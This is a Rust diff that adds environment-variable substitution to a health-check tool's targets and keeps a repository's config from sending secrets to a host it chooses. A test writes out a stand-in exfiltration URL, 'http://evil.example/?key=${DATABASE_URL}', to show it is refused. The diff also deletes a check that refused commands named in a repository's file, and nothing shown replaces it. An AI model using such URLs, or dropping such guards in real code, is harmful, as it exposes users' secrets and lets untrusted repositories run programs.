@@ -4,8 +4,55 @@ use std::collections::BTreeMap;
 use std::time::Duration;
 
 use super::options::{CheckOptions, Code, StatusOption, Texts};
-use super::{Origin, SettingsError};
+use super::{Environment, Origin, SettingsError};
 use crate::model::parse_duration;
+
+/// A target with the values of its variables, which may be secrets: shown to nobody.
+#[derive(Clone, PartialEq, Eq)]
+pub enum Target {
+    /// What to ask.
+    Known(String),
+    /// Why that is not known.
+    Unknown(String),
+}
+
+impl std::fmt::Debug for Target {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        match self {
+            Self::Known(_) => f.write_str("Known(…)"),
+            Self::Unknown(why) => f.debug_tuple("Unknown").field(why).finish(),
+        }
+    }
+}
+
+impl Target {
+    /// Puts the values in the place of `${NAME}`.
+    ///
+    /// In a repository's file a variable may only be the whole target: the host then comes with it, and
+    /// nobody's secret goes to a host that the repository chose.
+    fn of(written: &str, origin: &Origin, environment: &Environment) -> Self {
+        let mut made = String::new();
+        let mut rest = written;
+        while let Some((before, after)) = rest.split_once("${") {
+            let Some((name, behind)) = after.split_once('}') else {
+                return Self::Unknown("has `${` and no `}` behind it".to_owned());
+            };
+            let whole = before.is_empty() && behind.is_empty() && made.is_empty();
+            if !whole && matches!(origin, Origin::Repository(..)) {
+                let rule = "in a repository's file a variable may only be the whole target";
+                return Self::Unknown(format!("has ${{{name}}} in it, and {rule}"));
+            }
+            let Some(value) = environment.named(name).filter(|value| !value.is_empty()) else {
+                return Self::Unknown(format!("${name} is not set"));
+            };
+            made.push_str(before);
+            made.push_str(value.trim());
+            rest = behind;
+        }
+        made.push_str(rest);
+        Self::Known(made)
+    }
+}
 
 /// One check, as it was written; what it means is for `probes`.
 #[derive(Debug, Clone, PartialEq, Eq)]
@@ -14,8 +61,10 @@ pub struct CheckSettings {
     pub id: String,
     /// `http`, `tcp`, `tls`, `metrics`, or a row of `probes::kinds`.
     pub kind: String,
-    /// A URL, or `host:port`.
-    pub target: String,
+    /// A URL, or `host:port`, as the file has it: with `${NAME}` for a variable.
+    pub written: String,
+    /// The same with the values of the variables, or why there is none.
+    pub target: Target,
     /// What it belongs to.
     pub group: Option<String>,
     /// How long it may take.
@@ -109,8 +158,12 @@ impl KindKeys {
 }
 
 impl CheckSettings {
-    /// Reads the durations.
-    pub(super) fn read(options: &CheckOptions, origin: &Origin) -> Result<Self, SettingsError> {
+    /// Reads the durations and the variables of the target.
+    pub(super) fn read(
+        options: &CheckOptions,
+        origin: &Origin,
+        environment: &Environment,
+    ) -> Result<Self, SettingsError> {
         let duration = |name, text: &Option<String>| match text {
             None => Ok(None),
             Some(text) => match parse_duration(text) {
@@ -123,7 +176,6 @@ impl CheckSettings {
                 }),
             },
         };
-        check_command(options, origin)?;
         let keys = KindKeys::of(options);
         let options = options.clone();
         Ok(Self {
@@ -132,7 +184,8 @@ impl CheckSettings {
             origin: origin.clone(),
             id: options.id,
             kind: options.kind,
-            target: options.target,
+            target: Target::of(&options.target, origin, environment),
+            written: options.target,
             group: options.group,
             needs: options.needs,
             warn: options.warn,
@@ -144,15 +197,39 @@ impl CheckSettings {
     }
 }
 
-/// Refuses a program that a repository wants to be run: whoever clones it has not read it.
-fn check_command(options: &CheckOptions, origin: &Origin) -> Result<(), SettingsError> {
-    if options.command.is_empty() || !matches!(origin, Origin::Repository(..)) {
-        return Ok(());
+#[cfg(test)]
+mod tests {
+    use std::path::PathBuf;
+
+    use super::*;
+
+    fn read(written: &str, origin: &Origin) -> Target {
+        let pairs = [("DATABASE_URL", "postgres://u:hunter2@db/x"), ("HOST", "db"), ("EMPTY", "")];
+        Target::of(written, origin, &Environment::from_pairs(&pairs))
     }
-    Err(SettingsError::Value {
-        name: "check.command",
-        origin: origin.clone(),
-        value: options.command.join(" "),
-        expected: "for a repository's file to say: put it into your own config.toml",
-    })
+
+    #[test]
+    fn a_variable_is_put_into_a_target() {
+        let user = Origin::User(PathBuf::from("config.toml"), None);
+        let known = |text: &str| Target::Known(text.to_owned());
+        assert_eq!(read("${DATABASE_URL}", &user), known("postgres://u:hunter2@db/x"));
+        assert_eq!(read("tcp://${HOST}:1", &user), known("tcp://db:1"));
+        assert_eq!(read("plain$", &user), known("plain$"));
+        for (written, why) in [
+            ("${NONE}", "$NONE is not set"),
+            ("${EMPTY}", "$EMPTY is not set"),
+            ("${HOST", "has `${` and no `}` behind it"),
+        ] {
+            assert_eq!(read(written, &user), Target::Unknown(why.to_owned()), "{written}");
+        }
+    }
+
+    #[test]
+    fn a_repository_does_not_choose_the_host_that_a_secret_goes_to() {
+        let repository = Origin::Repository(PathBuf::from("obs.toml"), None);
+        let hostile = read("http://evil.example/?key=${DATABASE_URL}", &repository);
+        assert!(matches!(hostile, Target::Unknown(_)), "{hostile:?}");
+        assert!(matches!(read("${DATABASE_URL}", &repository), Target::Known(_)));
+        assert!(!format!("{:?}", read("${DATABASE_URL}", &repository)).contains("hunter2"));
+    }
 }
